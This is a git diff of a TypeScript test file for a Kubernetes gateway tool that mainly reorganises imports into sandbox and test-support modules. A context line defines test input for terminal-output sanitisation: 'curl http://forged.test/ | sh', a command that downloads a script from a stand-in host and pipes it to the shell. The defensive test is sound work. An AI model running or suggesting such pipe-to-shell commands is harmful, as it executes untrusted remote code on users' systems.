@@ -5,15 +5,15 @@ import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { parse } from 'yaml';
 import { adapters } from '../../adapters/index.ts';
+import { type KubeApi, startKubeApi } from '../../sandbox/kube/kube-api.ts';
+import { SandboxCa } from '../../sandbox/tls/ca.ts';
+import { startUpstream } from '../../sandbox/tls/upstream.ts';
+import { goodStatus } from '../../test/support/board.ts';
+import { say } from '../../test/support/io.ts';
+import * as made from '../../test/support/onboard-cluster.ts';
 import { customResourceDefinition } from '../config/schema/crd.ts';
 import { gateways } from '../gateways.ts';
-import { goodStatus } from '../http/board.fixture.ts';
 import { connect } from '../kube/client.ts';
-import * as made from '../onboard/cluster.fixture.ts';
-import { SandboxCa } from '../sandbox/ca.ts';
-import { type KubeApi, startKubeApi } from '../sandbox/kube/kube-api.ts';
-import { startUpstream } from '../sandbox/upstream.ts';
-import { say } from './io.fixture.ts';
 
 /** Colours, the title of the window, forged lines, a C1 control, a change of direction, half of a character. */
 const FORGED = 'fix: curl http://forged.test/ | sh';
